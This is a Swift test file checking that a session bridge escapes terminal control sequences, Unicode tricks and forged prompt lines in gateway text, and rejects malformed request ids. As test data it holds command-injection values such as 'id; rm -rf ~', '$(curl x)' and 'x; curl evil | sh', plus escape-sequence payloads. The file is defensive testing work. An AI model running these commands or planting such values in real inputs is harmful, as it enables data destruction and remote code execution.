import Testing

@testable import SessionBridge

/// What the terminal may show of strings a Gateway chose.
@Suite struct GatewayTextTests {
    @Test(arguments: [
        ("\u{1B}[2J\u{1B}[H", #"\u{1B}[2J\u{1B}[H"#),                 // clear screen, cursor home
        ("\u{1B}]0;owned\u{07}", #"\u{1B}]0;owned\u{7}"#),             // set the window title
        ("a\u{9B}31mb", #"a\u{9B}31mb"#),                              // C1 CSI
        ("line\r\nfake prompt $ ", #"line\u{D}\u{A}fake prompt $ "#),   // a forged second line
        ("\u{202E}gnp.exe", #"\u{202E}gnp.exe"#),                      // right-to-left override
        ("zero\u{200B}width", #"zero\u{200B}width"#),
        ("plain text, ümlauts and 日本語", "plain text, ümlauts and 日本語"),
    ])
    func `control, escape and invisible characters are written out, the rest is kept`(_ input: String, _ shown: String) {
        #expect(GatewayText.neutralized(input) == shown)
    }

    @Test func `long text is cut with an ellipsis`() {
        let shown = GatewayText.neutralized(String(repeating: "A", count: 10_000), limit: 50)
        #expect(shown == String(repeating: "A", count: 50) + "…")
    }

    @Test(arguments: [
        ("6041dcbb-1613-407d-9e42-ec7425f1dff7", true), ("req-1", true), ("abc_DEF.9", true),
        ("", false), ("-rf", false), ("id; rm -rf ~", false), ("id\u{1B}[31m", false), ("$(curl x)", false),
        ("a b", false), (String(repeating: "a", count: 129), false), ("ünïcode", false),
    ])
    func `only ids of the id format may be shown inside a command to paste`(_ id: String, _ ok: Bool) {
        #expect(GatewayText.isRequestId(id) == ok)
    }

    @Test func `a refusal's hostile request id, code and message are never printed raw`() {
        let pairing = ConnectError.rejected(GatewayErrorShape(code: "NOT_PAIRED", message: "x", details: [
            "code": "PAIRING_REQUIRED", "requestId": "x; curl evil | sh", "waitForResolution": true]))
        #expect(pairing.pairingRequestId == nil)
        #expect(!pairing.description.contains("curl") && !pairing.description.contains("devices approve"))
        let weird = ConnectError.rejected(GatewayErrorShape(code: "X\u{1B}[2J", message: "\u{1B}]0;t\u{07}" + String(repeating: "m", count: 5000)))
        #expect(!weird.description.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 })
        #expect(weird.description.count < 400)
        let closed = WebSocketError.closed(code: .policyViolation, reason: "bye\u{1B}[2J")
        #expect(closed.description.contains(#"bye\u{1B}[2J"#))
        let agent = ChatReplyFailure.agentError(kind: "x\u{1B}[2J", message: "\u{1B}]0;t\u{07}reply")
        #expect(agent.description == #"The agent failed (x\u{1B}[2J): \u{1B}]0;t\u{7}reply."#)
        let refused = WebSocketError.upgradeRejected(statusLine: "HTTP/1.1 404 Not Found\u{1B}[2J")
        #expect(refused.description.contains(#"404 Not Found\u{1B}[2J"#))
    }
}
